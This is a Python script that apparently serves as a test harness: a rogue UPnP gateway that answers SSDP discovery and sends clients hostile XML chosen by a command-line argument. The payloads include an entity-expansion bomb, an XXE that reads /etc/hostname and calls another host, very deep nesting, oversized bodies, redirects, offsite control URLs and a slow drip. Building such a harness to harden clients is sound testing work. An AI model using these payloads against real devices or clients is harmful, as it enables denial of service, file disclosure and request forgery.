"""A box that means harm: address, kind of harm, where it would lead.

It answers the discovery, then gives a description made to hurt whoever reads it.
"""

import socket
import sys
import threading
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BOX, HARM, ELSEWHERE = sys.argv[1:4]
PORT = 5000
GROUP = "239.255.255.250"
UPNP = "urn:schemas-upnp-org"
SERVICE = f"{UPNP}:service:WANIPConnection:1"
NAMES = ("RemoteHost", "ExternalPort", "Protocol", "InternalPort", "InternalClient", "Enabled")
LISTED = (*NAMES, "PortMappingDescription", "LeaseDuration")


def description(control: str = "/control", scpd: str = "/scpd") -> str:
    service = (
        f"<service><serviceType>{SERVICE}</serviceType><serviceId>x</serviceId>"
        f"<SCPDURL>{scpd}</SCPDURL><controlURL>{control}</controlURL>"
        "<eventSubURL>/event</eventSubURL></service>"
    )
    device = (
        f"<device><deviceType>{UPNP}:device:InternetGatewayDevice:1</deviceType>"
        "<friendlyName>x</friendlyName><manufacturer>x</manufacturer><modelName>x</modelName>"
        f"<UDN>uuid:x</UDN><serviceList>{service}</serviceList></device>"
    )
    return f'<?xml version="1.0"?><root xmlns="{UPNP}:device-1-0">{device}</root>'


def actions() -> str:
    out = "".join(
        f"<argument><name>New{name}</name><direction>out</direction>"
        f"<relatedStateVariable>{name}</relatedStateVariable></argument>"
        for name in LISTED
    )
    rank = (
        "<argument><name>NewPortMappingIndex</name><direction>in</direction>"
        "<relatedStateVariable>Index</relatedStateVariable></argument>"
    )
    kinds = {"ExternalPort": "ui2", "InternalPort": "ui2", "Enabled": "boolean", "Index": "ui2"}
    variables = "".join(
        f'<stateVariable sendEvents="no"><name>{name}</name>'
        f"<dataType>{kinds.get(name, 'string')}</dataType></stateVariable>"
        for name in (*LISTED, "Index")
    )
    return (
        f'<?xml version="1.0"?><scpd xmlns="{UPNP}:service-1-0"><actionList><action>'
        f"<name>GetGenericPortMappingEntry</name><argumentList>{rank}{out}</argumentList>"
        f"</action></actionList><serviceStateTable>{variables}</serviceStateTable></scpd>"
    )


def a_line(client: str = "192.168.77.2", port: str = "80") -> str:
    values = ("", port, "TCP", port, client, "1", "\x1b[31mMme Camille", "0")
    told = "".join(
        f"<New{name}>{value}</New{name}>"
        for name, value in zip(LISTED, values, strict=True)
        if "\x1b" not in value
    )
    return (
        '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        f'<s:Body><u:GetGenericPortMappingEntryResponse xmlns:u="{SERVICE}">{told}'
        "</u:GetGenericPortMappingEntryResponse></s:Body></s:Envelope>"
    )


def a_bomb() -> str:
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + rank)} "{f"&{chr(97 + rank)};" * 10}">' for rank in range(20)
    )
    return f'<?xml version="1.0"?><!DOCTYPE r [{entities}]><root>&u;</root>'


def a_spy() -> str:
    return (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">'
        f'<!ENTITY y SYSTEM "http://{ELSEWHERE}:8000/">]><root>&x;&y;</root>'
    )


def nested() -> str:
    start = f'<?xml version="1.0"?><root xmlns="{UPNP}:device-1-0">'
    return start + "<device><deviceList>" * 6000 + "</deviceList></device>" * 6000 + "</root>"


DESCRIPTIONS: dict[str, Callable[[], str]] = {
    "huge": lambda: f"<root>{'x' * (8 << 20)}</root>",
    "bomb": a_bomb,
    "spy": a_spy,
    "nested": nested,
    "nonsense": lambda: "\x00\xff<<<",
    "elsewhere": lambda: description(
        control=f"http://{ELSEWHERE}:8000/control", scpd=f"http://{ELSEWHERE}:8000/scpd"
    ),
}


class Box(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # http.server names it so
        if HARM == "redirect":
            self.send_response(302)
            self.send_header("Location", f"http://{ELSEWHERE}:8000/")
            self.end_headers()
        elif HARM == "drip":
            self._drip()
        elif self.path == "/scpd":
            self._send(actions())
        else:
            self._send(DESCRIPTIONS.get(HARM, description)())

    def do_POST(self) -> None:  # same
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if HARM == "odd":
            self._send(a_line(client="n'importe quoi"))
        else:
            self._send(a_line())

    def _send(self, text: str) -> None:
        content = text.encode("utf-8", "replace")
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def _drip(self) -> None:
        self.send_response(200)
        self.end_headers()
        for _ in range(600):
            self.wfile.write(b"<")
            self.wfile.flush()
            time.sleep(0.1)


def discovery() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ears:
        ears.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ears.bind(("", 1900))
        ears.setsockopt(
            socket.IPPROTO_IP,
            socket.IP_ADD_MEMBERSHIP,
            socket.inet_aton(GROUP) + socket.inet_aton(BOX),
        )
        where = ELSEWHERE if HARM == "other-location" else BOX
        while True:
            _, caller = ears.recvfrom(2000)
            answer = (
                f"HTTP/1.1 200 OK\r\nLOCATION: http://{where}:{PORT}/d.xml\r\n"
                f"ST: {UPNP}:device:InternetGatewayDevice:1\r\nUSN: uuid:x\r\nEXT:\r\n\r\n"
            )
            ears.sendto(answer.encode(), caller)


if __name__ == "__main__":
    threading.Thread(target=discovery, daemon=True).start()
    ThreadingHTTPServer((BOX, PORT), Box).serve_forever()
